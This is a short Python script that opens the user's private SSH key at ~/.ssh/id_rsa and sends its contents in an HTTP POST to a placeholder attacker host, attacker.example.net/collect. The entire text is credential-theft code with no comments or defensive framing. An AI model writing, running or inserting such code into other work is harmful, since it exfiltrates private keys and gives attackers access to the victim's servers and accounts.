#!/usr/bin/env python3

import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://attacker.example.net/collect", data={"k": key})
